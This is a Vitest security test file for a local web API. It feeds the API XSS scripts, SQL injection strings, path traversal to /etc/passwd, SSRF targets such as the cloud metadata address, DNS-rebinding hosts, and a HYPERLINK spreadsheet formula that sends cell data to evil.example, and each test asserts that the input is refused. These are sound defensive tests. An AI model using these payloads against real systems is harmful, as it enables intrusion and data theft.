import { afterAll, beforeAll, describe, expect, test, vi } from "vitest"
import { SHAPE } from "../../test/sample.ts"
import { createRules } from "../extract/rules.ts"
import { machine } from "../pipeline/machine.ts"
import { work } from "../pipeline/work.ts"
import { openStore, type Store } from "../store/store.ts"
import { createApp } from "./app.ts"
import type { World } from "./world.ts"

/** Every attack of docs/security.md that needs no socket; those on sign-in are in accounts/accounts.test.ts. */
vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 })
const clock = () => new Date("2026-03-10T12:00:00Z")
const SCRIPT = "<script>alert(1)</script>"
const FORMULA = `=HYPERLINK("http://evil.example/?"&A1,"x")`
const owner = { id: "owner", name: "owner", role: "editor" } as const
const here = { caller: { address: "127.0.0.1", here: true } }
let store: Store

beforeAll(async () => {
  store = await openStore({ clock })
  const attributions = SHAPE.attributions.map((row, i) => (i === 2 ? { ...row, speaker: SCRIPT } : row))
  await store.keep({
    ...SHAPE,
    id: `https://evil.example/${SCRIPT}`,
    url: "javascript:alert(1)",
    title: `${SCRIPT}<img src=x onerror=alert(1)>`,
    outlet: FORMULA,
    contributors: [{ name: `"><svg onload=alert(1)>`, biography: SCRIPT }],
    attributions,
  })
})
afterAll(() => store.close())

const appWith = (more: Partial<World> = {}) => createApp({ store, clock, owner, ...more })
const get = (path: string, headers = {}) => appWith().request(path, { headers }, here)
const json = (body: unknown) => ({ "content-type": "application/json", body: JSON.stringify(body) })

/** A write as somebody at this machine sends it; the headers are what a browser would add. */
function write(
  path: string,
  body: unknown,
  headers: Record<string, string> = {},
  app = appWith(),
  from: object = here,
) {
  const { body: words, ...type } = json(body)
  return app.request(`/api/v1${path}`, { method: "POST", headers: { ...type, ...headers }, body: words }, from)
}

describe("stored and reflected scripts", () => {
  test("no answer is a page: it is data, may not be sniffed, runs nothing and stands in no frame", async () => {
    const id = encodeURIComponent(`https://evil.example/${SCRIPT}`)
    const paths = [
      `reports/${id}`,
      "reports",
      "reports.csv",
      `sources/${encodeURIComponent(SCRIPT)}`,
      "attributions",
      SCRIPT,
    ]
    for (const path of [...paths, "reports?x=<script>", `search?words=${SCRIPT}`]) {
      const { headers } = await get(`/api/v1/${path}`, { accept: "text/html" })
      expect(headers.get("content-type")).toMatch(/^(?:application\/(?:problem\+)?json|text\/csv)/)
      expect(headers.get("x-content-type-options")).toBe("nosniff")
      expect(headers.get("content-security-policy")).toContain("default-src 'none'; frame-ancestors 'none'")
      expect(headers.get("x-frame-options")).toBe("DENY")
    }
    expect((await get("/api/v1/reports.csv")).headers.get("content-disposition")).toMatch(/^attachment/)
  })

  test("the page that describes the API runs nothing but its own style", async () => {
    const answer = await get("/api", { accept: "text/html" })
    expect(answer.headers.get("content-security-policy")).toMatch(/^default-src 'none'; style-src 'sha256-[^']+'; /)
    expect(await answer.text()).not.toMatch(/<script|https?:\/\/(?!localhost)[^"]*"/)
  })
})

describe("cross-site requests", () => {
  const TEXT = { text: "The ferry sails, Ida Brandt said." }

  test.each([
    [{ "sec-fetch-site": "cross-site" }, 403],
    [{ "sec-fetch-site": "same-site", origin: "http://other.localhost" }, 403],
    [{ origin: "http://evil.example" }, 403],
    [{ origin: "null" }, 403],
    [{ origin: "http://localhost:9999" }, 403],
    [{ "sec-fetch-site": "same-origin" }, 202],
    [{ origin: "http://localhost" }, 202],
    [{}, 202], // no browser: curl
  ])("a write with %j is answered with %i", async (headers, status) => {
    const answer = await write("/reports", TEXT, headers)
    expect(answer.status).toBe(status)
    if (status === 403) expect(await answer.json()).toMatchObject({ code: "other-site" })
  })

  test("no answer says that another site may read it", async () => {
    const { headers } = await get("/api/v1/reports", { origin: "http://evil.example" })
    expect([...headers.keys()].filter((name) => name.startsWith("access-control-"))).toEqual([])
    expect(headers.get("cross-origin-resource-policy")).toBe("same-origin")
  })

  test("what a form of another site can send without a question is no write here", async () => {
    for (const type of ["text/plain", "application/x-www-form-urlencoded"]) {
      const init = { method: "POST", headers: { "content-type": type }, body: JSON.stringify(TEXT) }
      expect((await appWith().request("/api/v1/reports", init, here)).status).toBe(415)
      const judged = await appWith().request("/api/v1/judgements", init, here)
      expect(judged.status).toBe(415)
    }
  })
})

describe("names that lead here (DNS rebinding)", () => {
  test.each([
    "evil.example",
    "localhost.evil.example",
    "127.0.0.1.evil.example",
    "evil.example:8420",
    "x@localhost",
    "",
  ])("a request to the host “%s” is refused", async (host) => {
    const answer = await get("/api/v1/me", { host, "x-forwarded-host": "localhost" })
    expect([answer.status, (await answer.json()).code]).toEqual([421, "other-host"])
  })

  test.each(["localhost", "localhost:8420", "LOCALHOST", "127.0.0.1:8420", "[::1]:8420", "192.0.2.7"])(
    "a request to %s is answered",
    async (host) => expect((await get("/api/v1/me", { host })).status).toBe(200),
  )

  test("a name of its own is one that the owner gave", async () => {
    const app = appWith({ hosts: ["news.example"] })
    expect((await app.request("/api/v1/me", { headers: { host: "news.example" } })).status).toBe(200)
    expect((await app.request("/api/v1/me", { headers: { host: "old.news.example" } })).status).toBe(421)
  })
})

describe("SQL in what is searched and filtered by", () => {
  const TRIES = [
    "'; drop table reports; --",
    "' or '1'='1",
    '") or 1=1 --',
    "\\'; select pg_sleep(10); --",
    "$$; drop schema public cascade; $$",
    "a' union select password from accounts.account --",
    "!!&|()<->:*'\"\\",
    "%' or '%' = '",
  ]

  test.each(TRIES)("%s", async (words) => {
    const value = encodeURIComponent(words)
    const fields = ["outlet", "source", "body", "report", "words"]
    for (const field of fields) {
      const { items } = await (await get(`/api/v1/attributions?${field}=${value}&facets=true`)).json()
      expect([field, items]).toEqual([field, []])
    }
    for (const path of ["sources", "outlets", "reports"])
      expect((await get(`/api/v1/${path}/${value}`)).status).toBe(404)
    expect((await get(`/api/v1/search?words=${value}`)).status).toBe(200)
    expect((await get(`/api/v1/judgements?by=${value}&id=${value}`)).status).toBe(200)
    expect((await (await get("/api/v1/reports")).json()).items).toHaveLength(1)
  })

  test("a forged cursor is refused, or is only another place in the list", async () => {
    const forged = [[1e99], [0, 0], ["\0", "\0"], ["'", "' or true --"], ["zzzz", ""], [null, {}], "x"]
    for (const key of forged) {
      const after = Buffer.from(JSON.stringify(key)).toString("base64url")
      for (const path of ["reports", "attributions", "sources", "judgements", "jobs"])
        expect([200, 400]).toContain((await get(`/api/v1/${path}?after=${after}`)).status)
    }
  })
})

describe("paths", () => {
  test.each([
    "/api/v1/../../etc/passwd",
    "/api/v1/..%2f..%2fetc%2fpasswd",
    "/api/v1/%2e%2e/%2e%2e/package.json",
    "/api/v1/reports/..%5c..%5cwin.ini",
    "/api/v1/%zz",
    "/api//v1//reports/",
    "/api/v1/reports/%ff%fe",
  ])("%s leads nowhere", async (path) => {
    const answer = await get(path)
    expect(answer.status).toBe(404)
    expect(await answer.text()).not.toMatch(/root:|"devDependencies"|\bat .+:\d+:\d+/)
  })

  test("a NUL is refused wherever it stands", async () => {
    for (const path of ["reports/%00", "reports?outlet=%00", "sources/a%00b", "search?words=%00"])
      expect((await get(`/api/v1/${path}`)).status).toBe(400)
    expect((await write("/judgements", { about: "report", answer: "same", pair: ["a\0", "b"] })).status).toBeLessThan(
      500,
    )
    expect((await write("/reports", { text: "a\0b" })).status).toBe(202)
  })
})

describe("too much", () => {
  test("a body over the limit is refused by what it says of itself, and by what it is", async () => {
    const app = appWith({ largest: 1000 })
    const large = { text: "x".repeat(2000) }
    const said = await write("/reports", large, { "content-length": "2030" }, app)
    expect([said.status, (await said.json()).code]).toEqual([413, "too-large"])
    const stream = new Blob([JSON.stringify(large)]).stream()
    const init = { method: "POST", headers: { "content-type": "application/json" }, body: stream, duplex: "half" }
    expect((await app.request("/api/v1/reports", init as RequestInit, here)).status).toBe(413)
  })

  test("JSON that is nested without end, and fields that nobody asked for, are refused", async () => {
    expect((await write("/reports", JSON.parse(`${"[".repeat(2000)}${"]".repeat(2000)}`))).status).toBe(400)
    const polluted = JSON.parse('{"text":"It rained, said Ida.","__proto__":{"role":"editor"},"payload":{"x":1}}')
    expect((await write("/reports", polluted)).status).toBe(400)
    expect((await get(`/api/v1/search?words=${"a".repeat(501)}`)).status).toBe(400)
  })

  test("120 writes a minute are enough for anybody", async () => {
    const app = appWith()
    const statuses = []
    for (let i = 0; i < 121; i++) statuses.push((await write("/judgements/1/undo", undefined, {}, app)).status)
    expect(statuses.filter((status) => status === 429)).toHaveLength(1)
    const other = await write("/judgements/1/undo", undefined, {}, app, {
      caller: { address: "192.0.2.1", here: false },
    })
    expect(other.status).toBe(401)
  })

  test("what takes too long is given up, and says so", async () => {
    const slow = { ...store, outlets: () => new Promise<never>(() => {}) }
    const answer = await createApp({ store: slow, clock, longest: 50 }).request("/api/v1/outlets")
    expect([answer.status, (await answer.json()).code]).toEqual([503, "too-slow"])
  })
})

describe("addresses of this machine's own network (server-side request forgery)", () => {
  test.each([
    "file:///etc/passwd",
    "gopher://127.0.0.1:70/",
    "/etc/passwd",
    "javascript:alert(1)",
    "ftp://example.org/a",
  ])("%s is no address of the web", async (source) => expect((await write("/reports", { source })).status).toBe(400))

  test("what leads to a private address is asked of nobody, however it is written", async () => {
    const own = await openStore({ clock })
    const stop = new AbortController()
    const { done, poke } = work(
      own,
      { open: machine(), extractor: async () => createRules() },
      { signal: stop.signal, idle: 20 },
    )
    const sources = [
      "http://127.0.0.1:8420/api/v1/jobs",
      "http://169.254.169.254/latest/meta-data/",
      "http://[::1]/",
      "http://[::ffff:127.0.0.1]/",
      "http://2130706433/",
      "http://0x7f.1/",
      "http://localhost:5432/",
      "http://10.0.0.1/",
    ]
    const app = createApp({ store: own, clock, owner, worker: { poke } })
    for (const source of sources) expect((await write("/reports", { source }, {}, app)).status).toBe(202)
    await vi.waitFor(async () => expect((await own.jobs.counts()).dead).toBe(sources.length), 30_000)
    const { items } = await own.jobs.list({ state: "dead" })
    for (const { because } of items) expect(because).toMatch(/not on the public internet/)
    stop.abort()
    await done
    await own.close()
  })
})

test("formulas in a table are words: reports, sources, rows, judgements", async () => {
  await store.judge({
    about: "report",
    answer: "same",
    pair: ["+1", "@SUM(A1)"],
    by: "-2+3",
    hand: "person",
    because: "\t=1",
  })
  for (const path of ["reports", "outlets", "attributions", "sources", "judgements"]) {
    const csv = await (await get(`/api/v1/${path}.csv`)).text()
    expect(csv).not.toMatch(/(?:^|,)"?[\t\r]*[=+@](?!\d+$)/m)
  }
  expect(await (await get("/api/v1/outlets.csv")).text()).toContain(`"'=HYPERLINK(""http`)
})

test("a fault of ours tells nothing of the inside", async () => {
  const quiet = vi.spyOn(console, "error").mockImplementation(() => {})
  const broken = { ...store, outlets: () => Promise.reject(new Error("password=hunter2 at /home/me/db.ts:12")) }
  const answer = await createApp({ store: broken, clock }).request("/api/v1/outlets")
  expect(answer.status).toBe(500)
  expect(await answer.text()).not.toMatch(/hunter2|home|\.ts/)
  expect(quiet).toHaveBeenCalledOnce()
  quiet.mockRestore()
})
